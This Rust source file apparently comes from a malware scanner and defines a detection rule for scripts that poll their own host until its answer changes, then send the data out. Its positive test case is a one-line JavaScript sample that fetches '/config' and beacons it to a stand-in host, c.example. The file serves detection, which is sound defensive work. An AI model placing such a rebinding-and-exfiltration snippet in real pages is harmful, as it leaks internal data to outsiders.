//! `own-host-until-it-changes`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "own-host-until-it-changes",
    description: "The script queries its own host until another machine answers under that name, and sends the response elsewhere.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Delay, Atom::Repeat])],
    within: 0,
    only_if: Some(waits_for_change),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "async function poll(){try{var t=await (await fetch('/?r='+Math.random())).text();if(t.includes('mark'))return setTimeout(poll,4000);var got=await (await fetch('/config')).text();navigator.sendBeacon('https://c.example/r',JSON.stringify(got))}catch(e){setTimeout(poll,4000)}}poll()",
        ],
        without: &[
            "async function check(){var t=await (await fetch('/?v='+Date.now())).text();if(t.includes(build))return setTimeout(check,300000);bar.show()}check()",
        ],
    },
};

/// Whether a page of the own host is asked for with something that varies, its answer compared, and the next ones put into what leaves.
fn waits_for_change(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 220);
    let own = near.words(&["fetch", "open"]).any(|at| {
        near.is(at + 1, b'(')
            && (at + 2..at + 5).any(|at| {
                let text = near.word(at);
                matches!(near.kind(at), Some(Kind::Str | Kind::Template))
                    && text.starts_with("/?")
                    && near.has_word(&["random", "now", "getTime"])
            })
    });
    if !own {
        return false;
    }
    let compared = near.words(&["includes", "indexOf", "headers"]).next().is_some();
    let again = near.words(&["setTimeout"]).any(|at| {
        near.is(at + 1, b'(')
            && near.kind(at + 2) == Some(Kind::Name)
            && near.functions_meant(at + 2).any(|body| body.contains(&at))
    });
    let leaves = near.has_fact(&[Atom::SentAbroad]) || near.has_text(&["https://", "http://"]);
    compared
        && again
        && leaves
        && near.has_word(&["stringify", "send", "sendBeacon", "postMessage"])
        && near.has_fact(&[Atom::AnswerBody, Atom::AnswerHanded])
}
